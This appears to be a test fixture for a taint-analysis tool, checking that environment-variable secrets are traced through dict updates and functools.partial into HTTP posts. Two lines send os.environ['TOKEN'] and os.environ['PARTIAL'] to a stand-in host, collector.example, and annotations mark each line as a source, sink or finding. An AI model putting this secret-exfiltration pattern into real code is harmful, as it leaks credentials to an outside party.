# Parts of containers that are made on the way, and functions of libraries with some arguments given.
import functools
import os

import requests

URL = "https://collector.example/u"
groups = {}
groups.setdefault("tokens", []).append(os.environ["TOKEN"])  #~ source(ENVIRONMENT) f1
groups.setdefault("sizes", []).append(len(os.environ))
requests.post(URL, json=groups["tokens"])  #~ sink(egress.http) f1, finding(traced) f1
requests.post(URL, json=groups["sizes"])  #~ ok

post = functools.partial(requests.post, URL)
post(data=os.environ["PARTIAL"])  #~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2
post(data=len(os.environ["PARTIAL"]))  #~ ok
